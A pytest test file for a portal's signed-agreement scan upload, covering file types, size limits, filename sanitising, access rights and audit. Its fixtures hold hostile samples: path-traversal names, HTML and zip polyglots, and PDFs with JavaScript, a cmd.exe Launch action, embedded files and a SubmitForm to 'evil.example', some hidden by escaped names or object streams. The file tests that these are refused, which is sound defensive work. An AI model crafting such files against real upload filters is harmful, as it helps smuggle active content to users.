"""Uploading the signed copy: type by content, size, polyglots, names; who may upload and
download it; the agreement is signed once both parties uploaded theirs, and each upload audited."""
import io

import pytest
from PIL import Image
from sqlalchemy import func, select

from portal.agreements.models import SignedScan
from portal.agreements.services import pdf_bytes
from portal.cooperation.services import act
from portal.storage import storage_dir
from portal.uploads import display_name
from tests.factories import partnership


@pytest.fixture
def agreement(db):
    proposal = partnership(db)
    db.commit()
    return proposal.agreements[0]


def image(kind: str, size=(60, 40)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "white").save(out, kind)
    return out.getvalue()


def upload(client, agreement, data: bytes, name: str):
    return client.post(f"/agreements/{agreement.id}/scans",
                       data={"file": (io.BytesIO(data), name)},
                       content_type="multipart/form-data", follow_redirects=True)


def scans(db):
    return db.scalar(select(func.count()).select_from(SignedScan))


def test_a_party_uploads_the_signed_pdf_and_the_chinese_name_is_kept(client, db, login_as,
                                                                      agreement):
    login_as(agreement.proposal.partner.members[0])
    scan = pdf_bytes(agreement)  # stands in for the scanned, signed PDF
    html = upload(client, agreement, scan, "合作协议.pdf").get_data(as_text=True)
    assert "已上传签署件" in html and "合作协议.pdf" in html
    db.expire_all()
    stored = db.scalar(select(SignedScan))
    assert stored.content_type == "application/pdf"
    assert agreement.signed_at is None  # the proposer's copy is still awaited
    assert stored.stored_name != "合作协议.pdf" and stored.stored_name.startswith("scan-")
    assert (storage_dir() / stored.stored_name).read_bytes() == scan
    assert agreement.proposal.events[-1].action == "signed_scan"
    response = client.get(f"/agreements/scans/{stored.id}")
    assert response.status_code == 200 and response.data == scan
    assert "UTF-8''%E5%90%88%E4%BD%9C%E5%8D%8F%E8%AE%AE.pdf" in \
        response.headers["Content-Disposition"]


@pytest.mark.parametrize("kind, name", [("JPEG", "盖章页.jpg"), ("PNG", "scan.png")])
def test_images_are_accepted(client, db, login_as, agreement, kind, name):
    login_as(agreement.proposal.proposer.members[0])
    upload(client, agreement, image(kind), name)
    assert db.scalar(select(SignedScan.original_name)) == name


@pytest.mark.parametrize("data, name, message", [
    (b"MZ\x90\x00 not a scan at all", "合作协议.pdf", "请以 PDF、JPEG 或 PNG 格式上传"),
    (b"GIF89a....", "scan.gif", "请以 PDF、JPEG 或 PNG 格式上传"),
    (b"%PDF-1.7\n1 0 obj\n", "cut.pdf", "不完整或已损坏"),
    (b"%PDF-1.4\n<html><script>alert(1)</script></html>\n%%EOF\n", "poly.pdf", "网页或压缩包"),
    (b"%PDF-1.4\n1 0 obj <</S /JavaScript /JS (app.alert(1))>>\n%%EOF\n", "js.pdf",
     "无法完整读取"),  # no cross-reference: what a reader would make of it is unknown
    (b"\xff\xd8\xff\xe0 broken jpeg", "x.jpg", "不完整或已损坏"),
    (b"", "empty.pdf", "文件是空的"),
])
def test_bad_files_are_refused_with_a_reason(client, db, login_as, agreement, data, name,
                                            message):
    login_as(agreement.proposal.partner.members[0])
    html = upload(client, agreement, data, name).get_data(as_text=True)
    assert message in html
    assert scans(db) == 0 and agreement.signed_at is None
    assert not list(storage_dir().glob("scan-*"))  # nothing half written


def test_a_jpeg_with_a_zip_appended_is_refused(client, db, login_as, agreement):
    archive = io.BytesIO()
    import zipfile
    with zipfile.ZipFile(archive, "w") as bundle:
        bundle.writestr("evil.html", "<script>alert(1)</script>")
    login_as(agreement.proposal.partner.members[0])
    html = upload(client, agreement, image("JPEG") + archive.getvalue(), "photo.jpg")
    assert "网页或压缩包" in html.get_data(as_text=True) and scans(db) == 0


def test_a_file_over_the_limit_is_refused(app, client, db, login_as, agreement):
    app.config["SCAN_MAX_BYTES"] = 1024 * 1024
    login_as(agreement.proposal.partner.members[0])
    printed = pdf_bytes(agreement)
    big = printed + b"%" * (1024 * 1024 - len(printed) + 100) + b"\n%%EOF\n"  # just over
    html = upload(client, agreement, big, "big.pdf").get_data(as_text=True)
    assert "文件超过 1 MB" in html and scans(db) == 0


@pytest.mark.parametrize("uploaded, kept", [
    ("../../etc/passwd.pdf", "passwd.pdf"),
    ("..\\..\\windows\\合作协议.pdf", "合作协议.pdf"),
    ("合作协议", "合作协议.pdf"),
    ("签署页.exe", "签署页.pdf"),
    ("a\x00b\nc.PDF", "abc.PDF"),
    (".pdf", "signed-agreement.pdf"),
    ("", "signed-agreement.pdf"),
    ("长" * 300 + ".pdf", "长" * 196 + ".pdf"),
])
def test_file_names_lose_folders_and_keep_a_true_extension(uploaded, kept):
    assert display_name(uploaded, "application/pdf") == kept


def test_only_parties_upload_and_only_for_the_version_in_force(client, db, login_as,
                                                             agreement, people):
    proposal = agreement.proposal
    login_as(people["outsider"])
    assert upload(client, agreement, image("PNG"), "x.png").status_code == 404
    login_as(people["coordinator"])
    html = upload(client, agreement, image("PNG"), "x.png").get_data(as_text=True)
    assert "只有协议双方可以上传签署件" in html
    act(db, proposal, proposal.partner.members[0], "terminate", comment="合作终止")
    db.commit()
    login_as(proposal.partner.members[0])
    html = upload(client, agreement, image("PNG"), "x.png").get_data(as_text=True)
    assert "只能为现行有效的版本上传签署件" in html and scans(db) == 0


def test_only_parties_and_coordinators_download_a_scan(client, db, login_as, agreement,
                                                       people):
    login_as(agreement.proposal.partner.members[0])
    upload(client, agreement, image("PNG"), "x.png")
    scan_id = db.scalar(select(SignedScan.id))
    login_as(people["outsider"])
    assert client.get(f"/agreements/scans/{scan_id}").status_code == 404
    login_as(people["coordinator"])
    response = client.get(f"/agreements/scans/{scan_id}")
    assert response.status_code == 200 and response.mimetype == "image/png"


def test_signed_once_both_parties_have_uploaded(client, db, login_as, agreement, caplog):
    """Per party, shown on the page; any one PNG no longer signs it (issue 13, defect 10)."""
    partner, proposer = agreement.proposal.partner, agreement.proposal.proposer
    login_as(partner.members[0])
    html = upload(client, agreement, pdf_bytes(agreement), "学校盖章页.pdf").get_data(
        as_text=True)
    assert f"{partner.name}：已上传签署件" in html
    assert f"{proposer.name}：尚未上传签署件" in html
    login_as(partner.members[0])
    upload(client, agreement, pdf_bytes(agreement), "学校盖章页-2.pdf")  # the same side again
    db.expire_all()
    assert agreement.signed_at is None
    login_as(proposer.members[0])
    inbox = client.get("/inbox/").get_data(as_text=True)
    assert "上传了协议的签署盖章件" in inbox and "signed_scan" not in inbox
    html = upload(client, agreement, pdf_bytes(agreement), "企业盖章页.pdf").get_data(
        as_text=True)
    db.expire_all()
    assert agreement.signed_at is not None and "双方均已签署" in html


def test_the_page_offers_the_upload_exactly_when_the_service_takes_it(client, db, login_as,
                                                                      agreement, people):
    """One rule (Agreement.can_upload_scan) for the form and the service (issue 13)."""
    proposal = agreement.proposal
    party, coordinator = proposal.partner.members[0], people["coordinator"]

    def offered(user) -> bool:
        login_as(user)
        page = client.get(f"/cooperation/{proposal.id}").get_data(as_text=True)
        return f'action="/agreements/{agreement.id}/scans"' in page

    assert (offered(party), offered(coordinator)) == (True, False)
    login_as(coordinator)
    upload(client, agreement, image("PNG"), "x.png")
    assert scans(db) == 0
    act(db, proposal, party, "terminate", comment="合作终止")
    db.commit()
    assert offered(party) is False
    upload(client, agreement, image("PNG"), "x.png")
    assert scans(db) == 0


def objstm_pdf(action: bytes) -> bytes:
    """A PDF 1.5 whose OpenAction (object 4) sits compressed inside an object stream, as
    PDF writers store objects today: invisible to a search of the raw bytes."""
    import zlib

    out = io.BytesIO()
    out.write(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}

    def obj(number: int, body: bytes) -> None:
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")

    obj(1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>")
    obj(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    obj(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>")
    header = b"4 0 "
    packed = zlib.compress(header + action)
    obj(5, b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(header), len(packed)) + packed + b"\nendstream")
    xref_at = out.tell()
    rows = [(0, 0, 65535), *((1, offsets[n], 0) for n in (1, 2, 3)), (2, 5, 0),
            (1, offsets[5], 0), (1, xref_at, 0)]
    table = zlib.compress(b"".join(bytes([kind]) + field.to_bytes(4, "big")
                                   + extra.to_bytes(2, "big") for kind, field, extra in rows))
    out.write(b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode "
              b"/Length %d >>\nstream\n" % len(table) + table + b"\nendstream\nendobj\n")
    out.write(b"startxref\n%d\n%%%%EOF\n" % xref_at)
    return out.getvalue()


def plain_pdf(catalog_extra: bytes = b"", *extra_objects: bytes) -> bytes:
    """A well-formed one-page PDF (cross-reference table and all); `extra_objects` are
    the bodies of objects 4, 5, …"""
    bodies = [b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
              b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
              b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>", *extra_objects]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref_at = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % offset for offset in offsets))
    out.write(b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n"
              % (len(bodies) + 1, xref_at))
    return out.getvalue()


@pytest.mark.parametrize("data", [
    plain_pdf(b"/OpenAction << /S /J#61vaScript /JS (app.alert(1)) >>"),  # escaped name
    plain_pdf(b"/OpenAction << /S /L#61unch /F (cmd.exe) >>"),
    plain_pdf(b"/Names << /EmbeddedFiles 4 0 R >>",
              b"<< /Names [(a.exe) << /Type /Filespec /EF << /F 5 0 R >> >>] >>",
              b"<< /Length 1 >>\nstream\nx\nendstream"),
    plain_pdf(b"/AcroForm << /XFA 4 0 R >>", b"<< /Length 1 >>\nstream\nx\nendstream"),
    plain_pdf(b"/OpenAction << /S /SubmitForm /F (https://evil.example/) >>"),
    objstm_pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"),  # compressed, in a stream
], ids=["escaped-javascript", "escaped-launch", "embedded-file", "xfa", "submit-form",
        "object-stream"])
def test_active_pdf_content_is_refused_however_it_is_written(client, db, login_as,
                                                              agreement, data):
    """Issue 14: a search of the raw bytes let escaped names and object streams through."""
    login_as(agreement.proposal.partner.members[0])
    assert "包含脚本或附件" in upload(client, agreement, data, "scan.pdf").get_data(
        as_text=True)
    assert scans(db) == 0


def test_a_plain_pdf_with_a_link_and_a_page_opening_is_accepted(client, db, login_as,
                                                                agreement):
    login_as(agreement.proposal.partner.members[0])
    upload(client, agreement, plain_pdf(b"/OpenAction [3 0 R /Fit]"), "scan.pdf")
    assert scans(db) == 1
    upload(client, agreement, objstm_pdf(b"<< /S /GoTo /D [3 0 R /Fit] >>"), "scan2.pdf")
    assert scans(db) == 2


def test_images_are_drawn_afresh_so_nothing_rides_along(client, db, login_as, agreement):
    """Issue 14: metadata and appended files survived in stored images."""
    out = io.BytesIO()
    exif = Image.Exif()
    exif[0x010E] = "GPS and the author's name"
    Image.new("RGB", (60, 40), "white").save(out, "JPEG", exif=exif.tobytes())
    carrier = out.getvalue() + b"%PDF-1.4 appended document"
    login_as(agreement.proposal.partner.members[0])
    upload(client, agreement, carrier, "scan.jpg")
    stored = (storage_dir() / db.scalar(select(SignedScan.stored_name))).read_bytes()
    assert b"appended document" not in stored and b"GPS" not in stored
    with Image.open(io.BytesIO(stored)) as image:
        assert image.size == (60, 40) and not image.getexif()
